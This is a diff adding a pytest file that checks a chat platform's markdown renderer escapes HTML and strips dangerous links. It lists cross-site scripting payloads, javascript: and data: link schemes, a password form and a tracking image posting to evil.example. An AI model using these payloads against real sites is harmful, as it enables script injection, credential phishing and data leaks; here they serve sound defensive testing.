@@ -1,0 +1,52 @@
+"""What a model or a person writes is shown, and never does anything."""
+
+import pytest
+from markdown_it import MarkdownIt
+
+from chat_platform.markdown_html import to_html
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src=https://evil.example></iframe>",
+    "<style>body{display:none}</style>",
+    '<form action="https://evil.example"><input name=password></form>',
+]
+LINKS = [
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](vbscript:x)",
+    "<javascript:alert(1)>",
+]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_html_in_a_reply_stays_text(text: str):
+    html = to_html(text)
+
+    assert text[0:4] not in html
+    assert "&lt;" in html
+
+
+@pytest.mark.parametrize("text", LINKS)
+def test_links_that_run_something_are_no_links(text: str):
+    assert "href" not in to_html(text)
+
+
+def test_images_are_not_loaded_by_themselves():
+    html = to_html("![pixel](https://evil.example/?q=secret)")
+
+    assert "<img" not in html
+
+
+def test_code_is_shown_as_it_is():
+    html = to_html("```html\n<script>alert(1)</script>\n```")
+
+    assert "<script" not in html
+
+
+def test_the_attacks_are_real_ones():
+    # With HTML allowed they would get through: the test above could fail.
+    assert all("&lt;" not in MarkdownIt().render(text) for text in ATTACKS)
